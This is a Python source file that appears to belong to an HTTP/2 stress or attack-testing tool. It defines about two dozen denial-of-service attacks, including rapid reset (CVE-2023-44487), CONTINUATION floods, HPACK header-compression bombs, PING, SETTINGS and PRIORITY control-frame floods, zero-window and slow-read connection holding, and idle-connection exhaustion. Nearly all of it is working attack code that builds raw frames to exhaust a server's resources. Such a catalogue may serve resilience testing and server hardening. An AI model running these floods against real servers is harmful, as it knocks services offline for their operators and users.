"""Attacks over HTTP/2."""
import struct
import time

import h2
from catalogue import attack
from h2 import END_HEADERS, END_STREAM, frame, headers, indexed, inserted, literal, request

WIDE_OPEN = ((h2.INITIAL_WINDOW_SIZE, 0x7FFFFFFF),)
GIB = 1 << 30
SIXTEEN_RANGES = b"bytes=" + b",".join(b"%d-%d" % (i * 1000, i * 1000) for i in range(16))


def flood(run, batch, **how):
    run.flood(lambda: h2.connect(run, WIDE_OPEN, window=GIB), batch, **how)


def answered(run, each, kind, count=50):
    """`each(stream)` for so many streams, and for more once the server has sent a frame for each."""
    make = per_stream(each, count)
    while run.on():
        channel, asked = h2.connect(run, WIDE_OPEN, window=GIB), 0
        while channel is not None and run.on() and channel.send(make(asked)):
            asked += 1
            end = time.monotonic() + 1
            while channel.heard.get(kind, 0) < asked * count and time.monotonic() < end:
                channel.take(0.001)
                if channel.over:
                    break
        if channel is not None:
            channel.close()
        run.pause(0.02)


def per_stream(each, count=100):
    """A batch of `each(stream)` for so many new streams."""
    return lambda n: b"".join(each(2 * (n * count + i) + 1) for i in range(count))


@attack("h2-rapid-reset", "h2", "H2-01, CVE-2023-44487", "requests that are reset at once")
def rapid_reset(run):
    cancel = struct.pack(">I", 8)
    block = request(b"/big.bin")
    flood(run, per_stream(lambda s: headers(s, block) + frame(h2.RST_STREAM, 0, s, cancel)))


@attack("h2-made-you-reset", "h2", "F9, H2-02, CVE-2025-8671", "requests whose window is then "
        "overflown, so that the server resets them")
def made_you_reset(run):
    block = request(b"/big.bin")
    answered(run, lambda s: headers(s, block) + h2.window_update(s, 0x7FFFFFFF), h2.RST_STREAM)


@attack("h2-malformed", "h2", "F9, H2-02", "requests with an upper-case field name")
def malformed(run):
    block = request() + literal(b"Upper", b"case")
    answered(run, lambda s: headers(s, block), h2.RST_STREAM)


@attack("h2-field-bomb", "h2", "F3, H2-04",
        "requests with 147,000 one-byte references to a field of 3.9 KB")
def field_bomb(run):
    def batch(n):
        block = request() + (inserted(b"x", b"a" * 3900) if n == 0 else b"")
        return h2.pieces(2 * n + 1, block + indexed(62) * (9 * h2.LARGEST_FRAME - len(block)))
    flood(run, batch)


@attack("h2-trailer-bomb", "h2", "F3, H2-04", "the same in the trailers of a request")
def trailer_bomb(run):
    def batch(n):
        block = inserted(b"x", b"a" * 3900) if n == 0 else b""
        block += indexed(62) * (9 * h2.LARGEST_FRAME - len(block))
        return headers(2 * n + 1, request(), END_HEADERS) + h2.pieces(2 * n + 1, block)
    flood(run, batch)


@attack("h2-cookie-crumbs", "h2", "H2-04, CVE-2026-47774",
        "requests with 14,000 references to a cookie's crumb")
def cookie_crumbs(run):
    def batch(n):
        block = request() + (inserted(b"cookie", b"a=b") if n == 0 else b"")
        return headers(2 * n + 1, block + indexed(62) * (14000 - len(block)))
    flood(run, batch)


@attack("h2-large-heads", "h2", "H1-13, H2-04", "requests with 15 KB of new fields, 50 at a time")
def large_heads(run):
    block = request() + b"".join(literal(b"x-%d" % i, b"a" * 140) for i in range(98))
    answered(run, lambda s: headers(s, block), h2.HEADERS)


@attack("h2-continuation", "h2", "H2-03, VU#421644",
        "a field section of CONTINUATION without end, and empty ones")
def continuation(run):
    flood(run, lambda n: (frame(h2.HEADERS, END_STREAM, 1, request()) if n == 0 else b"")
          + frame(h2.CONTINUATION, 0, 1) * 500)


def control_flood(name, source, does, *frames, opens=b""):
    @attack(name, "h2", source, does)
    def run_it(run):
        piece = b"".join(frames) * (16000 // sum(map(len, frames)))
        flood(run, lambda n: (opens if n == 0 else b"") + piece)


OPEN_POST = headers(1, request(method=b"POST"), END_HEADERS)
control_flood("h2-pings", "H2-07, CVE-2019-9512", "PING frames", frame(h2.PING, 0, 0, bytes(8)))
control_flood("h2-settings", "H2-07, CVE-2019-9515", "empty SETTINGS frames", frame(h2.SETTINGS, 0, 0))
control_flood("h2-priorities", "H2-07, CVE-2019-9513", "PRIORITY frames",
              frame(h2.PRIORITY, 0, 1, b"\0\0\0\3\x10"), frame(h2.PRIORITY, 0, 3, b"\0\0\0\5\x10"))
control_flood("h2-priority-updates", "H2-07", "PRIORITY_UPDATE frames",
              frame(h2.PRIORITY_UPDATE, 0, 0, b"\0\0\0\1u=1"))
control_flood("h2-empty-data", "H2-07, CVE-2019-9518", "empty DATA frames of a body that never ends",
              frame(h2.DATA, 0, 1), opens=OPEN_POST)
control_flood("h2-window-updates", "H2-07", "WINDOW_UPDATE frames of one byte",
              h2.window_update(0, 1))
control_flood("h2-unknown-frames", "H2-07", "frames of an unknown type", frame(0xBA, 0, 0, b"ignore"))


@attack("h2-unread-pings", "h2", "H2-07, H2-08", "PING frames, and nothing is read, on 20 connections")
def unread_pings(run):
    piece = frame(h2.PING, 0, 0, bytes(8)) * 900
    flood(run, lambda n: piece, reads=False)


@attack("h2-unread-responses", "h2", "H2-08",
        "requests for what is not there, and nothing is read, on 20 connections")
def unread_responses(run):
    batch, count = per_stream(lambda s: headers(s, request(b"/not/there")), 50), 0
    channels = run.many(20, lambda: h2.connect(run, WIDE_OPEN, 4096, GIB))
    while run.on():
        for channel in channels:
            channel.send(batch(count), patience=0)
        count += 1
        run.pause(0.05)


def zero_window(name, source, does, fields):
    """40 connections of 100 requests each, none of which may be answered."""
    @attack(name, "h2", source, does)
    def run_it(run):
        def connect():
            channel = h2.connect(run, ((h2.INITIAL_WINDOW_SIZE, 0),))
            if channel is not None:
                channel.send(b"".join(headers(2 * i + 1, request(b"/big.bin") + fields(i))
                                      for i in range(100)))
            return channel
        run.hold(run.many(40, connect))


def kept(name, value):
    return lambda i: inserted(name, value) if i == 0 else indexed(62)


zero_window("h2-zero-window", "F2, H2-05", "100 requests each on 40 connections, with a window of 0",
            lambda i: b"")
zero_window("h2-zero-window-fields", "F2, H2-05", "the same, each with 32 KiB of fields as references",
            lambda i: kept(b"x", b"a" * 3900)(i) + indexed(62) * 7)
zero_window("h2-zero-window-ranges", "F2, H2-05", "the same, each for 16 ranges",
            kept(b"range", SIXTEEN_RANGES))
zero_window("h2-zero-window-both", "F2, H2-05",
            "the same, each with 32 KiB of fields and for 16 ranges",
            lambda i: (inserted(b"range", SIXTEEN_RANGES) + inserted(b"x", b"a" * 3700)
                       + indexed(62) * 7) if i == 0 else indexed(63) + indexed(62) * 8)


@attack("h2-slow-read", "h2", "H1-17, H2-05",
        "40 connections ask for 16 MiB ten times each and read nothing")
def slow_read(run):
    def connect():
        channel = h2.connect(run, WIDE_OPEN, 4096, GIB)
        if channel is not None:
            channel.send(b"".join(headers(2 * i + 1, request(b"/big.bin")) for i in range(10)))
        return channel
    run.keep(run.many(40, connect))


@attack("h2-tiny-windows", "h2", "H2-06, CVE-2019-9511", "100 responses each on 10 connections, with "
        "windows that open by a byte")
def tiny_windows(run):
    def connect():
        channel = h2.connect(run, ((h2.INITIAL_WINDOW_SIZE, 1),))
        if channel is not None:
            channel.send(b"".join(headers(2 * i + 1, request(b"/big.bin")) for i in range(100)))
        return channel
    channels = run.many(10, connect)
    piece = b"".join(h2.window_update(2 * i + 1, 1) for i in range(100))
    run.drip(channels, lambda n: piece, every=0.02)


@attack("h2-slow-headers", "h2", "H1-15, H2-15",
        "500 connections each begin a field section and never end it")
def slow_headers(run):
    def connect():
        channel = h2.connect(run)
        if channel is not None:
            channel.send(frame(h2.HEADERS, END_STREAM, 1, request()))
        return channel
    run.hold(run.many(500, connect))


@attack("h2-idle", "h2", "H1-18, P-01",
        "1,000 connections of one address that say nothing after SETTINGS")
def idle(run):
    run.hold(run.many(1000, lambda: h2.connect(run)))
